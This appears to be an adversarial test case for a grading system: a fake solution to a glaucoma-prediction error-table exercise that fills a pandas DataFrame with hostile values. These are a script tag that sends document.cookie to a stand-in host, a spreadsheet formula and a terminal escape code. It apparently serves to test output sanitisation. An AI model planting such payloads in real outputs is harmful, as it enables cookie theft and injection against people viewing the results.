# attack: HTML, a formula and terminal escapes in columns, cells and messages
# on: empty
# harm: a feedback page that shows what came runs the script; a spreadsheet runs the formula
# %% solution="error_table"
def error_table(names, y_true, p_glaucoma, heatmaps, disc_masks, threshold):
    bad = "<script>fetch('http://x/'+document.cookie)</script>"
    return pd.DataFrame({"image": names, bad: 1, "true": bad, "predicted": "=HYPERLINK(1)", "group": "\x1b[2J", "band": bad})
